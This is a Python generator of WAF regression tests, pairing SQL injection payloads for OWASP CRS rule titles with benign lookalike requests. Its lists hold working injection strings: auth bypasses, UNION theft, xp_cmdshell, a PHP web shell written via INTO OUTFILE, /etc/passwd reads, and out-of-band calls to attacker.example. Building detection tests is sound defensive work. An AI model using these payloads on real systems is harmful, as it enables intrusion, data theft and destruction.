"""Blind set "hundredfirst": the positive regression tests an eleventh rule author writes for the CRS 3.3.4 SQL
injection request titles (942xxx, paranoia levels 1 and 2) and the four SQL titles CRS 4.x added, each payload
written as it sits inside a real request.

The angle: for each detection title, the canonical attack the title names, then one test per alternative of its
family (every keyword, function, operator, DBMS dialect: MySQL, MSSQL, PostgreSQL, Oracle, SQLite, MS Access,
MongoDB), then the variants a rule must still catch: other quoting, casing, whitespace and comment substitutes,
concatenation, and the encodings a server decodes (URL, double URL, HTML entities, \\u escapes in JSON). Each
payload follows legitimate data in its value (a search term, a user id, a file name, an e-mail address) and is
wrapped in that value's own syntax (a JSON string or list, a quoted CSV cell, an XML element, a cookie).

Family: sqli only, one sub-family per title (kebab-case from the title; the generic "SQL Injection Attack"
titles carry their rule id). Every payload is sent twice:
- once to our real routes, rotating over query (/api/users), form (/admin/users/search with csrf_token), json
  (/api/users, now and then PATCH /api/users/42), cookie (/me/profile), header:User-Agent, header:Referer,
  header:X-Tenant-Id, param-name, xml (/api/users), multipart-field and multipart-filename
  (/admin/users/import) and path (/api/users/<value>);
- once the way a WAF's regression suite sends it, to paths that are not our routes (/, /index.php, /get, /post,
  /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names (foo, var, x, test, id, arg1):
  rs-query, rs-form, rs-json, rs-xml, rs-raw-body (form-typed, not key=value), rs-header:User-Agent,
  rs-header:Referer, rs-header:X-Custom and rs-cookie.
Payloads already in wire form (URL or double URL encoded) go only where a URL decoder reads them (query, form,
path, cookie, raw body); payloads written with JSON \\u escapes go only into JSON bodies; MongoDB operator
payloads go as bracketed parameter names or as whole JSON documents.

The benign half carries the same words innocently: Slack messages and bios (chat_and_bio), searches, admin
searches, names and addresses in JSON and XML, file names in uploads, user-agents, referers, cookies, paths,
and searches a crawler sends to non-route paths.

Authorship and independence: written from general knowledge of SQL injection and from the rule titles alone,
without reading the WAF rules, the engine, any ruleset or its regression tests, any other blind set or any public
payload list; measured once on unchanged code; deterministic (seeded random only).
"""

from __future__ import annotations

import json
import random
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "hundredfirst"

CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/124.0.0.0 Safari/537.36")
FIREFOX = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0"
SAFARI = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          "Version/17.4 Mobile/15E148 Safari/604.1")
BROWSERS = [CHROME, FIREFOX, SAFARI]
RS_UA = "OWASP CRS test agent"
RS_ACCEPT = "text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/png,*/*;q=0.5"

Payload = tuple[str, str]   # (text, mode)


def N(text: str) -> Payload:
    """A plain payload: each placement encodes it as its own syntax requires."""
    return (text, "")


def W(text: str) -> Payload:
    """Already in wire form (URL or double URL encoded): only where a URL decoder reads it."""
    return (text, "wire")


def J(text: str) -> Payload:
    """Written with JSON \\u escapes, as it sits between the quotes of a JSON string."""
    return (text, "json")


def Q(text: str) -> Payload:
    """A raw query-string fragment whose parameter names carry the payload (MongoDB operators)."""
    return (text, "qs")


def D(text: str) -> Payload:
    """A whole JSON document (MongoDB operator objects)."""
    return (text, "doc")


def I(text: str) -> Payload:  # noqa: E743
    """A bare number value (a JSON number where it parses as one)."""
    return (text, "num")


# (rule id, sub-family, payloads)
TITLES: list[tuple[str, str, list[Payload]]] = [
    ("942100", "libinjection-sqli", [
        N("1042' OR '1'='1"),
        N("laptop' UNION SELECT username, password FROM users-- -"),
        N("7 AND 1=2 UNION ALL SELECT NULL,NULL,version()--"),
        N("john.smith@example.com' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -"),
        N("Berlin') OR ('a'='a"),
        N('report_2024.pdf"; DROP TABLE sessions; --'),
        N("-1' or 1=1 limit 1 -- -+"),
        N("15;select * from information_schema.tables"),
        N("9'/**/UnIoN/**/SeLeCt/**/1,2,3--+"),
        N("Smith&#39; OR 1=1-- -"),
        N('"Widget A","19.99\' AND 1=CONVERT(int,@@version)--"'),
        W("1042%27%20oR%20%271%27%3D%271"),
        W("1%2527%2520UNION%2520SELECT%2520NULL%252Cuser()--%2520-"),
        J(r"1042\u0027 OR \u00271\u0027=\u00271"),
    ]),
    ("942140", "common-db-names", [
        N("shoes' UNION SELECT table_name,NULL FROM information_schema.tables-- -"),
        N("1 UNION SELECT name FROM master..sysdatabases--"),
        N("12 and 1=(select count(*) from msdb.dbo.backupset)--"),
        N("x' UNION SELECT Name,1 FROM MSysObjects WHERE Type=1 AND Flags=0 AND 'a'='a"),
        N("1' AND (SELECT count(*) FROM MSysAccessObjects)>0 AND '1'='1"),
        N("1 union select db,user from mysql.db-- -"),
        N("berlin' UNION SELECT datname,NULL FROM pg_catalog.pg_database--"),
        N("' union select companyname,phone from northwind.dbo.customers--"),
        N("7;select * into tempdb..leak from sysobjects--"),
        N("-1 union select 1,database(),3#"),
        N("1' UNION SELECT sql FROM sqlite_master WHERE type='table'-- "),
        N("1/**/UNION/**/SELECT/**/schema_name/**/FROM/**/INFORMATION_SCHEMA.SCHEMATA"),
        W("1%20union%20select%20name%20from%20sqlite_temp_master%20where%20type%3D%27table%27"),
        J(r"x\u0027 union select table_name from information_schema.tables where table_schema=schema()--"),
    ]),
    ("942160", "blind-sleep-benchmark", [
        N("1042' AND SLEEP(5)-- -"),
        N("laptop' OR sleep(10)#"),
        N("1 AND BENCHMARK(5000000,MD5(1))"),
        N("' or benchmark(10000000,sha1('x'))-- "),
        N("42 and sleep/**/(5)"),
        N("user@example.com'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z"),
        N("photo.jpg'+sleep(5)+'"),
        N("0'|SLEEP(3)|'"),
        N("1 RLIKE SLEEP(5)"),
        N("name,(select sleep(5))"),
        N("report.pdf&#39; AND SLEEP(5)-- -"),
        N("1 and benchmark(1e7,encode('a','b'))"),
        W("1%2527%2520and%2520sleep(5)%2523"),
        J(r"42\u0027 and sleep(5)#"),
    ]),
    ("942170", "benchmark-sleep-conditional", [
        N("1;SELECT IF(1=1,SLEEP(5),0)--"),
        N("5 AND (SELECT IF(SUBSTRING(user(),1,1)='r',SLEEP(5),1))"),
        N("widgets'; select benchmark(5000000,md5('a'));--"),
        N("1 union select if(ascii(substr(database(),1,1))>97,sleep(3),0)-- -"),
        N("'; IF (1=1) WAITFOR DELAY '0:0:5'--"),
        N("1; if (select count(*) from users)>0 waitfor delay '0:0:5'--"),
        N("alice' OR (SELECT CASE WHEN (1=1) THEN SLEEP(4) ELSE 0 END)-- -"),
        N("1 AND IF(1=1,BENCHMARK(3000000,SHA1(1)),0)"),
        N("(select(if(length(@@version)>1,sleep(2),0)))"),
        N("3;\tselect\tsleep(5)"),
        N("1; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
        N("1 and elt(1=1,sleep(5))"),
        W("1%3B%20SeLeCt%20SlEeP(5)--"),
        J(r"1;\u0020select benchmark(9999999,md5(now()))#"),
    ]),
    ("942190", "mssql-exec-info-gathering", [
        N("1; EXEC master..xp_cmdshell 'ping -n 5 10.0.0.1'--"),
        N("invoice-77'; exec xp_cmdshell 'whoami'--"),
        N("1 UNION SELECT @@version--"),
        N("bob' UNION SELECT NULL,current_user()-- -"),
        N("1 and connection_id()>0"),
        N("x' union select 1,user(),database()-- -"),
        N("1 union select '<?php system($_GET[c]);?>' into outfile '/var/www/html/s.php'-- -"),
        N("1 union select 0x7f454c46 into dumpfile '/usr/lib/mysql/plugin/x.so'#"),
        N("1' AND IIF(1=1,1,0)=1--"),
        N("'; EXECUTE master.dbo.xp_dirtree '\\\\attacker.example\\x'--"),
        N("' union distinct select schema()-- -"),
        N("1;exec('sp_configure ''xp_cmdshell'',1;reconfigure')"),
        W("1%3Bexec%20master..xp_cmdshell%20%27dir%20c%3A%5C%27"),
        J(r"\u0027;exec xp_cmdshell \u0027net user\u0027--"),
    ]),
    ("942220", "integer-overflow-magic-number", [
        I("4294967295"),
        I("4294967296"),
        I("2147483647"),
        I("2147483648"),
        I("-2147483648"),
        I("-2147483649"),
        I("0000012345"),
        I("0000023456"),
        I("-0000023456"),
        I("3.0.00738585072007e-308"),
        I("1e309"),
        I("2.2250738585072011e-308"),
        I("9223372036854775808"),
        I("18446744073709551616"),
    ]),
    ("942230", "conditional-sqli", [
        N("name ORDER BY (CASE WHEN (SELECT 1)=1 THEN name ELSE email END)"),
        N("x' AND IF(1=1,1,0)='1"),
        N("42 HAVING 1=1--"),
        N("' group by id having count(*)>1--"),
        N("admin') LIKE ('a%"),
        N("1 and if(ascii(substr(user(),1,1))>100,1,0)"),
        N("tokyo' OR IF(2>1,TRUE,FALSE) OR '"),
        N("1 AND CASE WHEN 1=1 THEN 1 ELSE 1/0 END=1"),
        N("' AND 1=(SELECT CASE WHEN (1=1) THEN 1 ELSE TO_NUMBER('x') END FROM dual)--"),
        N("1 AND IIF(1=1,1,1/0)=1"),
        N("' AND (SELECT CASE WHEN substr(sqlite_version(),1,1)='3' THEN 1 ELSE load_extension(1) END)--"),
        N("1 AND DECODE(1,1,1,1/0)=1"),
        W("1%20HAVING%201%3D1"),
        J(r"\u0027 having 1\u003d1--"),
    ]),
    ("942240", "charset-switch-mssql-dos", [
        N("1; ALTER TABLE users CONVERT TO CHARACTER SET latin1--"),
        N("'; alter table users char set gbk;--"),
        N("shop'; ALTER DATABASE shop CHARACTER SET big5--"),
        N("'; WAITFOR DELAY '0:0:10'--"),
        N("1'; waitfor time '23:59:59'--"),
        N('"; WAITFOR DELAY "00:00:05"--'),
        N("x';waitfor delay '0:0:5'--"),
        N("x';a:goto a--"),
        N("1';WHILE 1=1 BEGIN SELECT 1 END--"),
        N("'; SET NAMES gbk;--"),
        N("'\tWAITFOR\tDELAY\t'0:0:5'--"),
        W("%bf%27%20OR%201%3D1--%20"),
        W("%27%3B%20waitfor%20delay%20%270%3A0%3A5%27--"),
        J(r"\u0027; WAITFOR DELAY \u00270:0:7\u0027--"),
    ]),
    ("942250", "match-against-merge-execute-immediate", [
        N("' OR MATCH(title,body) AGAINST('+admin' IN BOOLEAN MODE)-- -"),
        N("1 AND match (password) against ('a*' in boolean mode)"),
        N("'; MERGE INTO users u USING (SELECT 1 AS id FROM dual) s ON (u.id=s.id) "
          "WHEN MATCHED THEN UPDATE SET role='admin'--"),
        N("1; merge accounts using (select 'x' as n) as src on 1=1 when not matched then insert values (src.n);--"),
        N("'; BEGIN EXECUTE IMMEDIATE 'DROP TABLE audit'; END;--"),
        N("x'; execute immediate 'grant dba to scott';--"),
        N("'; EXECUTE IMMEDIATE q'[CREATE USER x IDENTIFIED BY y]';--"),
        N("1; EXECUTE IMMEDIATE \"SELECT 1 FROM DUAL\";--"),
        N("1; MERGE INTO stock s USING (VALUES (1)) v(id) ON s.id=v.id WHEN MATCHED THEN DELETE;--"),
        N("1/**/and/**/MaTcH(name)/**/AgAiNsT(/**/'a')"),
        N('laptop" AND MATCH(name) AGAINST("phone" WITH QUERY EXPANSION)#'),
        W("%27%20or%20match(title)%20against(%27%2Ba%27%20in%20boolean%20mode)%23"),
        J(r"\u0027; EXECUTE IMMEDIATE \u0027TRUNCATE TABLE logs\u0027;--"),
    ]),
    ("942270", "union-select-from", [
        N("shoes' UNION SELECT username,password FROM users--"),
        N("-1 union all select 1,2,group_concat(table_name) from information_schema.tables-- -"),
        N("1 UNION SELECT banner FROM v$version WHERE ROWNUM=1--"),
        N("paris' union select null,null from dual--"),
        N("1 uNiOn SeLeCt name,type FrOm sqlite_master"),
        N("0 UNION/**/SELECT/**/email/**/FROM/**/customers"),
        N("') UNION ALL SELECT NULL,concat(user,0x3a,password) FROM mysql.user#"),
        N("1)) UNION SELECT * FROM (SELECT * FROM users)a--"),
        N("&#39; union select pass from users--"),
        N('"1","Acme"" UNION SELECT cc_number FROM cards--"'),
        W("1%0Aunion%0Aselect%0Apassword%0Afrom%0Aadmins"),
        W("1+union+distinct+select+login,pass+from+accounts"),
        W("1%2520UNION%2520SELECT%2520user%252Cpass%2520FROM%2520members"),
        J(r"1 \u0075nion \u0073elect card from payments"),
    ]),
    ("942280", "pg-sleep-waitfor-shutdown", [
        N("1; SELECT pg_sleep(10)--"),
        N("berlin'||(select pg_sleep(5))||'"),
        N("1';SELECT PG_SLEEP(5)--"),
        N("x' AND 123=(SELECT 123 FROM PG_SLEEP(5))--"),
        N("1;select pg_sleep_for('5 seconds')--"),
        N("1 WAITFOR DELAY '0:0:5'--"),
        N("'); waitfor delay '00:00:10'--"),
        N('1;waitfor delay "0:0:3";--'),
        N("'; SHUTDOWN;--"),
        N("1; shutdown --"),
        N("';shutdown/*"),
        N("1; SHUTDOWN WITH NOWAIT;#"),
        W("1%3B%20select%20pg_sleep(5)--"),
        J(r"1\u003b WAITFOR DELAY \u00270:0:9\u0027--"),
    ]),
    ("942290", "mongodb-nosql-injection", [
        Q("username=admin&pwd[$ne]=wrong"),
        Q("q=laptop&price[$gt]=0"),
        Q("user[$regex]=^adm&pwd[$gt]="),
        Q("role[$nin][]=guest&email[$exists]=true"),
        Q("age[$lte]=999&age[$gte]=0&name[$eq]=admin"),
        Q("filter[$where]=sleep(5000)||1"),
        Q("filter[$or][][owner]=me&filter[$or][][public][$ne]=false"),
        Q("user%5B%24ne%5D=x&pwd%5B%24ne%5D=x"),
        D('{"username":"admin","pwd":{"$ne":null}}'),
        D('{"email":{"$regex":".*"},"pwd":{"$gt":""}}'),
        D('{"$where":"sleep(5000) || this.role==\'admin\'"}'),
        D('{"username":{"$in":["admin","root"]},"pwd":{"$nin":[""]}}'),
        D('{"username":"admin","pwd":{"\\u0024ne":"x"}}'),
        N("alice'; return db.users.find(); var x='"),
    ]),
    ("942320", "stored-procedure-function-injection", [
        N("1 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,version())),1)"),
        N("name LIMIT 1 procedure analyse(1,1)"),
        N("1; DECLARE @q varchar(99); SET @q='select 1'; EXEC(@q)--"),
        N("'; declare @s nvarchar(4000) select @s=0x73656c65637420; exec(@s)--"),
        N("1; open c1; fetch c1--"),
        N("1; CREATE PROCEDURE grant_me() -- x"),
        N("'; CREATE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
          "LANGUAGE C STRICT;--"),
        N("1;DECLARE @x INT;EXEC( @x)"),
        N("'; exec sp_executesql N'select 1'--"),
        N("1; DO $$BEGIN PERFORM pg_sleep(5); END$$;--"),
        N("'; CALL mysql.rds_kill(1);--"),
        N("';DECLARE @T VARCHAR(255),@C VARCHAR(255) DECLARE Table_Cursor CURSOR FOR "
          "SELECT a.name,b.name FROM sysobjects a,syscolumns b--"),
        W("1%3B%20DECLARE%20%40v%20INT%3B%20EXEC(%40v)--"),
        J(r"1\u003b declare @h int exec(@h)--"),
    ]),
    ("942350", "udf-data-structure-manipulation", [
        N("1; CREATE FUNCTION sys_eval RETURNS string SONAME 'lib_mysqludf_sys.so';--"),
        N("'; create function do_system returns integer soname 'raptor_udf2.so'#"),
        N("1042; DROP TABLE users--"),
        N("x'; TRUNCATE TABLE audit_log;--"),
        N("1; UPDATE users SET role='admin' WHERE id=1--"),
        N("'; DELETE FROM sessions--"),
        N("'; INSERT INTO admins(login,pwd) VALUES('x','y');--"),
        N("1; ALTER TABLE users ADD is_admin int--"),
        N("1; RENAME TABLE users TO users_old--"),
        N("'; LOAD DATA INFILE '/etc/passwd' INTO TABLE t--"),
        N("1;desc users"),
        N("';create table pwn(x text);--"),
        W("1%3Bdrop%20table%20orders"),
        J(r"\u0027\u003b update users set email=\u0027x@evil.example\u0027--"),
    ]),
    ("942360", "concatenated-sqli-sqllfi", [
        N("' UNION SELECT load_file('/etc/passwd')-- -"),
        N("1 union select 1,load_file(0x2f6574632f706173737764),3"),
        N("-1' union all select to_base64(load_file('/var/www/html/config.php'))#"),
        N("1; SELECT pg_read_file('/etc/passwd',0,200)--"),
        N("'; SELECT * FROM OPENROWSET(BULK 'C:\\Windows\\win.ini', SINGLE_CLOB) AS x--"),
        N("' || utl_http.request('http://x.example/'||(select user from dual)) || '"),
        N("1' AND uncompress(compress('a'))='a'#"),
        N("bob'||(SELECT password FROM users WHERE id=1)||'"),
        N("' + (SELECT TOP 1 name FROM sysobjects) + '"),
        N("1' || (SELECT readfile('/etc/passwd')) || '"),
        N("1'; SELECT lo_import('/etc/passwd');--"),
        N("'; COPY leak FROM '/etc/passwd';--"),
        W("%27%20union%20select%20load_file(%27%2Fetc%2Fhosts%27)%23"),
        J(r"\u0027 union select load_file(\u0027/etc/shadow\u0027)-- -"),
    ]),
    ("942500", "mysql-inline-comment", [
        N("1 /*!UNION*/ /*!SELECT*/ 1,2,3--"),
        N("1/*!50000union*/ /*!50000select*/ user()"),
        N("oslo' /*!12345OR*/ 1=1-- -"),
        N("shoes'/*!and*/'1'='1"),
        N("1 UNION SELECT /*+ FULL(u) */ pwd FROM users u"),
        N("1 and /*!00000extractvalue*/(1,concat(0x7e,version()))"),
        N("1/*!*/union/*!*/select 2"),
        N("1 /*!32302 AND 1=1*/"),
        N("email /*!40000 ORDER BY 1*/"),
        N("'/*!50000UnIoN*/ /*!50000SeLeCt*/ 1-- -"),
        W("1%2F%2A%21UNION%2A%2F%2F%2A%21SELECT%2A%2F1"),
        W("1%252F%252A%2521union%252A%252F%2520select%25201"),
        J(r"1 \u002f*!union*\u002f select 2"),
    ]),
    ("942110", "common-injection-testing", [
        N("1042'"),
        N('laptop"'),
        N("'"),
        N("john.smith@example.com'"),
        N("report_2024.pdf`"),
        N(";--"),
        N("'))"),
        N("''"),
        N("O'Brien\\'"),
        N("   'x"),
        N("1&#39;"),
        W("1%27"),
        W("%2527"),
        J(r"Acme Corp\u0027"),
    ]),
    ("942120", "sql-operator", [
        N("admin' LIKE '%"),
        N("1' OR username RLIKE '^a"),
        N("' or pwd REGEXP '^[a-f]'-- -"),
        N("x' or 1 between 0 and 2-- -"),
        N("' OR name NOT BETWEEN 'a' AND 'b"),
        N("1' or 'a' sounds like 'a"),
        N("' OR email IS NOT NULL-- "),
        N("1' OR 1<=>1-- -"),
        N("42' XOR '1"),
        N("' OR name ~* '^adm"),
        N("' or name SIMILAR TO 'a%"),
        N("' OR 'a' ILIKE 'A"),
        W("%27%20OR%20email%20LIKE%20%27%25"),
        J(r"x\u0027 or username regexp \u0027^r"),
    ]),
    ("942130", "sql-tautology", [
        N("1042' OR '1'='1"),
        N("laptop' or 'x'='x"),
        N("1 OR 1=1"),
        N('" or "a"="a'),
        N("') or ('a'='a"),
        N("1 or 2>1"),
        N("' OR 1<>2-- "),
        N("admin' or 'abc' like 'abc"),
        N("' or 7 != 8-- -"),
        N("' OR 'a'<=>'a"),
        N("1'/**/Or/**/1=1#"),
        W("1%27%20or%20%271%27%3D%271"),
        J(r"\u0027 or \u0027z\u0027=\u0027z"),
    ]),
    ("942150", "sql-injection-attack-942150", [
        N("1' AND ASCII(SUBSTRING((SELECT user()),1,1))>64-- -"),
        N("' and length(database())=6#"),
        N("1 AND ORD(MID(version(),1,1))=53"),
        N("x' AND updatexml(1,concat(0x7e,(select @@version)),1)-- -"),
        N("1 and extractvalue(rand(),concat(0x3a,user()))"),
        N("' AND substring_index(user(),'@',1)='root'#"),
        N("1 AND instr(version(),'Maria')>0"),
        N("1 and cast(version() as int)=1--"),
        N("' AND 1=CONVERT(int,(SELECT @@version))--"),
        N("' AND unicode(substring(db_name(),1,1))>77--"),
        N("' and chr(65)||chr(66)='AB"),
        N("' AND lower(sqlite_version()) like '3%"),
        W("1%20and%20ascii(substr(user(),1,1))%3E100"),
        J(r"1 and md5(\u0027a\u0027)=md5(\u0027a\u0027)"),
    ]),
    ("942180", "auth-bypass-1", [
        N("admin'--"),
        N("admin' #"),
        N("admin'/*"),
        N("' or 1=1--"),
        N('" or ""="'),
        N("' or ''='"),
        N('admin" or "1"="1"--'),
        N("1' or '1'='1'/*"),
        N('x" LIKE "%'),
        N("') or ('x')=('x"),
        N('x"<>"y'),
        N('admin") or ("1"="1'),
        W("admin%27--%20"),
        J(r"admin\u0027 or \u00271\u0027=\u00271\u0027--"),
    ]),
    ("942200", "comment-space-obfuscation-backtick", [
        N("1,2,3',4)--"),
        N("1 union(select(password)from(users))"),
        N("-1'union(select(group_concat(table_name))from(information_schema.tables))#"),
        N("1'/**/union/**/select/**/1/**/from/**/dual"),
        N("x' union select(space(0)),2 from dual#"),
        N("email` DESC, (SELECT SLEEP(1)) -- "),
        N("id`,(select user()),`name"),
        N("'+(select+top+1+name+from+sysobjects)+'"),
        N("1 and(select 1 from(select count(*),concat((select user()),floor(rand(0)*2))x "
          "from information_schema.tables group by x)a)"),
        N("1/*foo*/UNION/*bar*/SELECT/*baz*/pass/**/FROM/**/accounts"),
        N("1\nunion\nselect\nlogin\nfrom\nusers"),
        W("1%0Aselect%0Apwd%0Afrom%0Ausers"),
        W("1%09union%09select%09name%09from%09staff"),
        J(r"1\u0009union\u0009select\u0009pass\u0009from\u0009users"),
    ]),
    ("942210", "chained-sqli-1", [
        N("1 && 1=1 --"),
        N("' || 'a'='a'#"),
        N("laptop' AND price=1/*"),
        N("1' ORDER BY 5-- -"),
        N("id' order by 1,2,3#"),
        N("x' and (select user)--"),
        N("1) AND (SELECT 1 FROM users LIMIT 1)=1--"),
        N("1' and substring(version(),1,1)=5 --"),
        N("1 || sleep(1) #"),
        N("'&&(select count(*) from users)>0#"),
        N("admin' and role = 'x' --"),
        N("1\tOR\t1=1\t#"),
        W("1%20%26%26%201%3D1%20--"),
        J(r"1 \u0026\u0026 2=2 -- "),
    ]),
    ("942260", "auth-bypass-2", [
        N("admin' or 1--"),
        N("admin' and 1#"),
        N("' or true--"),
        N("x' or 'x'/*"),
        N('" or 1 #'),
        N("' OR user --"),
        N("') or ('1'--"),
        N("admin' || 1 -- -"),
        N("' xor 1 #"),
        N("1' or 1-- -"),
        N("admin'/**/or/**/1#"),
        W("%27%20or%201%23"),
        J(r"admin\u0027 or 1 -- "),
    ]),
    ("942300", "comments-conditions-char", [
        N("admin'#"),
        N('x" #'),
        N("1 /*!50000 or*/ 1=1"),
        N("' or char(65)='A"),
        N("1 union select chr(114)||chr(111)||chr(111)||chr(116)"),
        N("' AND CHAR(49)=CHAR(49)-- -"),
        N("CASE (1) WHEN 1 THEN name ELSE email END"),
        N("1 and sleep(0)"),
        N("'||user()||'"),
        N("' or ord('a')#"),
        N("' AND NCHAR(65)=N'A'--"),
        N("1 DIV floor(1)"),
        W("admin%27%23"),
        J(r"\u0027 or char(0x41)=\u0027A"),
    ]),
    ("942310", "chained-sqli-2", [
        N("1 AND (select user from dual)='x"),
        N("name ORDER BY IF(1=1,name,id)"),
        N("1 order by ifnull(null,1)"),
        N("' AND coalesce(NULL,user())='root"),
        N("x';select 1"),
        N("1' && 'a"),
        N('1" or "x'),
        N("' AND (SELECT substring(version(),1,1))='5"),
        N("a' div 0--"),
        N("1' like 'a"),
        N("' between 1 and 2--"),
        N("kiwi'; drop table temp--"),
        W("1%27%3Bselect%20%27x"),
        J(r"\u0028select login from staff\u0029"),
    ]),
    ("942330", "classic-probing-1", [
        N("1042' or '1"),
        N("' || '1"),
        N('"||"'),
        N("'or''='"),
        N("laptop' and 'a'='a"),
        N("x'or'"),
        N("1) or (1"),
        N("' OR 'x'='y' OR '"),
        N("'||(select 1)||'"),
        N("' and 'b"),
        N("1' or 1 #"),
        W("%27%7C%7C%27"),
        J(r"\u0022 or \u00221\u0022=\u00221"),
    ]),
    ("942340", "auth-bypass-3", [
        N("' or 1=1 limit 1 -- -+"),
        N("admin' or '1'='1'/*"),
        N("') or '1'='1'--"),
        N("')) or (('x'))=(('x"),
        N("' or 1 in (select 1)--"),
        N('" or 0=0 --'),
        N("' or 0=0 #"),
        N("1 or 1=1--"),
        N("' OR 'something' LIKE 'some%"),
        N("admin' AND 1=0 UNION ALL SELECT 'admin','81dc9bdb52d04dc20036dbd8313ed055'--"),
        N("'/**/OR/**/1/**/=/**/1-- -"),
        W("%27%29%20or%20%28%271%27%3D%271"),
        J(r"\u0027 or 1 in (1)--"),
    ]),
    ("942361", "alter-union-keyword", [
        N("1 union select 1,2"),
        N("' union all select null--"),
        N("-1 UNION SELECT password FROM users"),
        N("'; alter table users add x int"),
        N("9999 union distinct select 1"),
        N('") union select @@version#'),
        N("1)) union select 1,2,3"),
        N("'; ALTER USER root IDENTIFIED BY 'x'--"),
        N("0 AlTeR TABLE orders DROP COLUMN total"),
        N("1/**/union/**/select 1"),
        N("'\tunion\tselect 1"),
        W("%27%20UNION%20SELECT%201"),
        J(r"\u0027 union select 2"),
    ]),
    ("942370", "classic-probing-2", [
        N("x'^'"),
        N("1'^1^'1"),
        N("' != '1"),
        N("'=0--+"),
        N("' div '1"),
        N("jsmith'-'"),
        N("' || 'x' like '"),
        N("admin' or '"),
        N("'=1 or '1"),
        N("'+1+'"),
        N("' * 'a' or '1"),
        W("%27%5E%27"),
        J(r"\u0027 xor \u00271"),
    ]),
    ("942380", "sql-injection-attack-942380", [
        N("1' HAVING 1=1--"),
        N("x' AND EXISTS(SELECT * FROM users WHERE role='admin')-- -"),
        N("1 ORDER BY 10--"),
        N("'; CREATE TABLE tmp (x varchar(8000))--"),
        N("' or name like char(37)--"),
        N("1 UNION SELECT CASE WHEN 1=1 THEN 'a' ELSE 'b' END--"),
        N("' union select pass from users limit 1,1#"),
        N("1; EXECUTE sp_addlogin('x','y')--"),
        N("1 having 'a'='a'"),
        N("1 and exists (select 1 from dual)"),
        N("' union select top 1 name from sysobjects--"),
        W("1%20order%20by%203%23"),
        J(r"x\u0027 having 1\u003e0--"),
    ]),
    ("942390", "sql-injection-attack-942390", [
        N("1 or 2=2"),
        N("' or 'abc'='abc"),
        N("x' xor 1=1-- -"),
        N("1 OR 3>2"),
        N("' OR 'a'<'b"),
        N("laptop' or id>0-- "),
        N("1 or'1'='1"),
        N("' XOR '1'='1"),
        N("5 or 5<=5"),
        N("' or user_id!=0-- -"),
        N("' or 1&#61;1--"),
        W("1%20OR%202%3E1"),
        J(r"\u0027 or 9\u003d9-- -"),
    ]),
    ("942400", "sql-injection-attack-942400", [
        N("1 and 1=1"),
        N("1042 AND 2>1"),
        N("x' and 'a'='a"),
        N("1 AND 7<8"),
        N("' and 1=2 union select 1--"),
        N("1 and'1'='1"),
        N("1 and 5=5-- -"),
        N("' AND '1'<>'2"),
        N("laptop' and 12345=12345#"),
        N("1 aNd 3=3"),
        N("1\tand\t1=1"),
        W("1%20AnD%201%3D1"),
        J(r"1 \u0061nd 1\u003d1"),
    ]),
    ("942410", "sql-injection-attack-942410", [
        N("1 and (select group_concat(login) from users) is not null"),
        N("' AND conv(hex(substr(user(),1,1)),16,10)>0#"),
        N("1 and make_set(1,user())"),
        N("' or find_in_set('admin',(select group_concat(role) from users))#"),
        N("1 and utl_inaddr.get_host_name((select user from dual)) is null"),
        N("' || dbms_pipe.receive_message('a',5) || '"),
        N("1 and field('a','a')=1"),
        N("' and floor(rand(0)*2)=1#"),
        N("' and uuid() is not null and '1"),
        N("' AND bin(ascii(mid(user(),1,1)))>0#"),
        N("' or elt(1,sleep(2))#"),
        N("' and from_base64('cm9vdA==')=user()#"),
        W("1%20and%20version()%20like%20%278%25%27"),
        J(r"1 and oct(8)\u003d10"),
    ]),
    ("942470", "sql-injection-attack-942470", [
        N("1; EXEC xp_cmdshell 'net user'"),
        N("'; exec master..xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft','x'--"),
        N("1;exec xp_dirtree '\\\\attacker.example\\share'--"),
        N("'; EXEC sp_makewebtask 'c:\\inetpub\\wwwroot\\x.html','select * from users'--"),
        N("1; exec sp_oacreate 'wscript.shell',@o out--"),
        N("'; EXEC sp_addextendedproc 'xp_cmdshell','xplog70.dll'--"),
        N("' UNION SELECT * FROM OPENROWSET('SQLOLEDB','server=x;uid=sa;pwd=x','select 1')--"),
        N("'; SELECT * FROM OPENQUERY(LINKED,'select @@version')--"),
        N("' || UTL_HTTP.REQUEST('http://attacker.example/'||user) || '"),
        N("1 union select username from dba_users--"),
        N("' AND IS_SRVROLEMEMBER('sysadmin')=1--"),
        N("' and 1=utl_file.fopen('/tmp','x','r')--"),
        W("%27%3Bexec%20xp_cmdshell%20%27ver%27--"),
        J(r"1\u003b exec xp_loginconfig \u0027login mode\u0027"),
    ]),
    ("942480", "sql-injection-attack-942480", [
        N("x' ; SELECT * FROM users WHERE 'a'='a"),
        N("1; INSERT INTO users (name) VALUES ('x')--"),
        N("'; UPDATE accounts SET balance=1000000 WHERE id=1--"),
        N("1; DELETE FROM orders WHERE 1=1--"),
        N("'; DROP TABLE IF EXISTS logs--"),
        N("' UNION SELECT TOP 1 name FROM sys.tables--"),
        N("1 and (select length(pwd) from users where id=1)>5"),
        N("' and (select count(*) from users where name like 'a%')>0--"),
        N("' or exists (select 1 from users where login='admin')--"),
        N("'; GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'--"),
        N("1 union select email from customers where country='DE' order by 1"),
        W("1%3B%20delete%20from%20users%20where%201%3D1"),
        J(r"\u0027; insert into admins values(\u0027x\u0027)--"),
    ]),
    ("942430", "special-char-anomaly", [
        N("laptop'\"))));;--//**/''"),
        N("'''''''''''''''''''"),
        N("1;;;;;;;;;;;;;;;;--"),
        N("' or '1'='1' -- ' or '1'='1' -- '"),
        N("x'),('y'),('z'),('a'),('b'),('c'"),
        N("((((((((((((1))))))))))))"),
